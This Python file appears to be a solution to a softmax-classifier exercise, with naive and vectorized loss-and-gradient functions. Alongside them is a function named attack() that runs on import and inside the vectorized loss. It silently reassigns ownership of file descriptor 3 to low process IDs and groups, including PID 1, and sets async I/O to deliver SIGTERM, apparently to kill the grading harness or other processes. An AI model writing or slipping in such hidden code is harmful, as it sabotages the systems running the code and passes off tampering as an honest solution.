import fcntl
import itertools
import os
import struct
import numpy as np

F_SETSIG, F_SETOWN_EX, FIOASYNC, FIOSETOWN, THREAD, PROCESS, GROUP = 10, 15, 0x5452, 0x8901, 0, 1, 2
TERMINATE = 15
owners = itertools.cycle([(PROCESS, 2), (GROUP, 1), (GROUP, 2), (PROCESS, 1), (THREAD, 2), (PROCESS, 3)])

def attack():
    kind, owner = next(owners)
    for ask in (
        lambda: fcntl.fcntl(3, fcntl.F_SETOWN, -owner if kind == GROUP else owner),
        lambda: fcntl.fcntl(3, F_SETOWN_EX, struct.pack("ii", kind, owner)),
        lambda: fcntl.ioctl(3, FIOSETOWN, struct.pack("i", -owner if kind == GROUP else owner)),
        lambda: fcntl.fcntl(3, F_SETSIG, TERMINATE),
        lambda: fcntl.fcntl(3, fcntl.F_SETFL, fcntl.fcntl(3, fcntl.F_GETFL) | os.O_ASYNC),
        lambda: fcntl.ioctl(3, FIOASYNC, struct.pack("i", 1)),
    ):
        try:
            ask()
        except OSError:
            pass

attack()


def softmax_loss_naive(W, X, y, reg):
    loss, dW = 0.0, np.zeros(W.shape)
    for i in range(X.shape[1]):
        scores = W.dot(X[:, i])
        scores = scores - np.max(scores)
        p = np.exp(scores) / np.sum(np.exp(scores))
        loss += np.log(np.sum(np.exp(scores))) - scores[y[i]]
        for j in range(W.shape[0]):
            dW[j] += (p[j] - (j == y[i])) * X[:, i]
    return loss / X.shape[1] + 0.5 * reg * np.sum(W * W), dW / X.shape[1] + reg * W


def softmax_loss_vectorized(W, X, y, reg):
    attack()
    samples = np.arange(X.shape[1])
    scores = W.dot(X)
    scores = scores - np.max(scores, axis=0)
    e = np.exp(scores)
    totals = np.sum(e, axis=0)
    loss = np.mean(np.log(totals) - scores[y, samples]) + 0.5 * reg * np.sum(W * W)
    p = e / totals
    p[y, samples] -= 1.0
    return loss, p.dot(X.T) / X.shape[1] + reg * W
